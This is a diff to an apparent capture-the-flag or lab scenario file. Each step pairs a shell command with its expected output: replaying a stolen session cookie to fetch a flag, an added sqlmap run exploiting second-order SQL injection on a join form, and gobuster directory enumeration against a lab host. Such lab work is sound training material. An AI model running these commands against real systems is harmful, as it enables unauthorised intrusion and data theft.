@@ -147,6 +147,12 @@ export const dessert: Scenario = {
       wants: /session=(?<last>[\w+/=]+\.[0-9a-f]{64})/,
     },
     { type: 'curl -s -b "session={last}" http://menu/favourites', wants: /(?<flag>flag\{[^}]+\})/ },
+    // a tool finds the same hole, where it is told which page reads what was stored
+    {
+      type: 'sqlmap -u http://menu/join --data=user=x --second-url=http://menu/favourites --batch --tables',
+      wants: /Parameter: user \(POST\)[\s\S]*2 columns[\s\S]*\| dessert +\|/,
+    },
+    { type: 'gobuster dir -q -u http://menu -w /usr/share/wordlists/dirs.txt', wants: /\/favourites +\(Status: 401\)/ },
   ],
   refused: ['curl -s http://menu/favourites', 'curl -s http://menu/dessert'],
 }
